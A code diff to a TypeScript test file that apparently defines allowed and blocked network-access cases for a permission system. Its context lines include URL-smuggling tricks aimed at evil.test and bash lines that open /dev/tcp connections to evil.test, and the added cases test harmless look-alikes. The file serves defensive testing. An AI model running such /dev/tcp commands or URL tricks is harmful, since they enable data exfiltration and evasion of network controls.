@@ -32,6 +32,7 @@ export const NETWORK: readonly Attack[] = [
     DOCS,
     ['https://docs.test\0.evil.test/', 'https://docs.test%00.evil.test/', 'https://docs.test\t.evil.test/'].map(fetch),
   ),
+  attack('N2', 'allow', DOCS, fetch('https://docs.test/a%20b')),
   ...attacks(
     'N3b',
     'not-allow',
@@ -43,6 +44,12 @@ export const NETWORK: readonly Attack[] = [
       'echo x > /dev//tcp/evil.test/80',
       'cat <> /dev/tcp/evil.test/80',
     ],
+  ),
+  ...attacks(
+    'N3b',
+    'allow',
+    ['allow Bash:cat *', 'allow Bash:echo *', 'allow Write:**', 'allow Read'],
+    ['echo x > dev/tcp/notes', 'cat < docs/dev/tcp.md', 'echo /dev/tcp/docs.test/80', 'echo x > /dev/null'],
   ),
   ...attacks(
     'N4',
